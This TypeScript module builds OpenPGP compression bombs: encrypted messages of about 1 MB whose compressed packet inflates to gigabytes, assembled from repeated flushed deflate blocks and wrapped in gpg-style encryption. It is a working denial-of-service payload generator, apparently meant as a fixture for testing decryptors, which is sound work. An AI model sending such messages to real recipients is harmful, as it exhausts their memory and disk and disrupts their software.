/**
 * Compression bombs as an attacker builds them: an OpenPGP message of about 1 MB whose Compressed
 * Data packet (RFC 4880 §5.6) inflates to gigabytes, encrypted to a real public key.
 *
 * Built in milliseconds without compressing gigabytes: a raw deflate stream (RFC 1951) is a sequence
 * of blocks, and a block flushed with Z_FULL_FLUSH ends on a byte boundary and refers to nothing
 * before it, so one compressed MiB of zeros can be repeated N times and closed with an empty final
 * block. ZLIB (RFC 1950) adds its header and the Adler-32 of the output, computed arithmetically
 * (zeros only move the second sum). The message is PKESK v3 (OpenPGP.js `encryptSessionKey`) + SEIPD
 * v1 (§5.13: AES-256 in CFB mode with a zero IV over prefix, packets and MDC §5.14), the shape gpg writes.
 */
import { createCipheriv, createHash, randomBytes } from 'node:crypto';
import { constants, deflateRawSync } from 'node:zlib';
import * as openpgp from 'openpgp';

const MIB = 1024 * 1024;

/** New-format packet header with a five-octet length (RFC 4880 §4.2.2.3). */
function packetHeader(tag: number, length: number): Buffer {
	const header = Buffer.alloc(6);
	header[0] = 0xc0 | tag;
	header[1] = 0xff;
	header.writeUInt32BE(length, 2);
	return header;
}

/** A binary Literal Data packet header (§5.9) announcing `size` octets, no file name. */
function literalHeader(size: number): Buffer {
	return Buffer.concat([packetHeader(11, size + 6), Buffer.from([0x62, 0]), Buffer.alloc(4)]);
}

const flushed = (bytes: Buffer) => deflateRawSync(bytes, { level: 9, finishFlush: constants.Z_FULL_FLUSH });

/** Adler-32 (RFC 1950 §8.2) of `head` followed by `zeros` zero octets. */
function adler32(head: Buffer, zeros: number): number {
	let a = 1;
	let b = 0;
	for (const byte of head) {
		a = (a + byte) % 65521;
		b = (b + a) % 65521;
	}
	b = Number((BigInt(b) + BigInt(zeros) * BigInt(a)) % 65521n);
	return ((b << 16) | a) >>> 0;
}

export type BombAlgorithm = 'zip' | 'zlib';

/** Options of {@link bombMessage}. */
export interface BombOptions {
	/** Literal data size after inflating, in octets (at most 4 GiB − 7). */
	inflatedSize: number;
	/** `zip` (algorithm 1, raw deflate) or `zlib` (algorithm 2). Default `zlib`. */
	algorithm?: BombAlgorithm;
	/** Octets appended after the end of the deflate stream, inside the packet (as sq writes). */
	trailingJunk?: number;
	/** Recipient of the message. */
	recipient: openpgp.PublicKey;
}

/** The Compressed Data packet body: algorithm octet, then the stream (and optional junk). */
function compressedBody(options: BombOptions): Buffer {
	const size = options.inflatedSize;
	const head = literalHeader(size);
	const total = head.length + size;
	const zeroMib = flushed(Buffer.alloc(MIB));
	const parts: Buffer[] = [];
	const first = Math.min(MIB, total);
	parts.push(flushed(Buffer.concat([head, Buffer.alloc(first - head.length)])));
	let left = total - first;
	for (; left >= MIB; left -= MIB) parts.push(zeroMib);
	if (left > 0) parts.push(flushed(Buffer.alloc(left)));
	parts.push(deflateRawSync(Buffer.alloc(0)));
	const algorithm = options.algorithm ?? 'zlib';
	if (algorithm === 'zlib') {
		const trailer = Buffer.alloc(4);
		trailer.writeUInt32BE(adler32(head, size), 0);
		parts.unshift(Buffer.from([0x78, 0xda]));
		parts.push(trailer);
	}
	parts.unshift(Buffer.from([algorithm === 'zlib' ? 2 : 1]));
	if (options.trailingJunk) parts.push(randomBytes(options.trailingJunk));
	return Buffer.concat(parts);
}

/** A binary OpenPGP message to `recipient` whose plaintext inflates to `inflatedSize` octets. */
export async function bombMessage(options: BombOptions): Promise<Buffer> {
	const body = compressedBody(options);
	const sessionKey = randomBytes(32);
	const pkesk = await openpgp.encryptSessionKey({
		data: new Uint8Array(sessionKey),
		algorithm: 'aes256',
		encryptionKeys: options.recipient,
		format: 'binary',
	});
	const prefix = randomBytes(18);
	prefix[16] = prefix[14];
	prefix[17] = prefix[15];
	const withoutDigest = Buffer.concat([prefix, packetHeader(8, body.length), body, Buffer.from([0xd3, 0x14])]);
	const plaintext = Buffer.concat([withoutDigest, createHash('sha1').update(withoutDigest).digest()]);
	const cipher = createCipheriv('aes-256-cfb', sessionKey, Buffer.alloc(16));
	const encrypted = Buffer.concat([cipher.update(plaintext), cipher.final()]);
	return Buffer.concat([Buffer.from(pkesk), packetHeader(18, encrypted.length + 1), Buffer.from([1]), encrypted]);
}
